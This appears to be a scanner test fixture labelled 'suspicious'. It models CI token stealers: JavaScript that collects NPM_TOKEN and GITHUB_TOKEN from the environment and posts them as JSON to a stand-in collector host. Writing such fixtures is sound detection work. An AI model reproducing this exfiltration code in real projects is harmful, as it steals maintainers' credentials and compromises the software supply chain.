// expect: suspicious
// source: CI token stealers that fill an object field by field and post it whole (2022-2025 reports,
// e.g. `const d = {}; d.npm = process.env.NPM_TOKEN; ...; post(JSON.stringify(d))`).
const loot = {};
loot.npm = process.env.NPM_TOKEN;
loot.gh = process.env.GITHUB_TOKEN;
fetch('https://ci-metrics.collector-demo.example/v1', { method: 'POST', body: JSON.stringify(loot) });
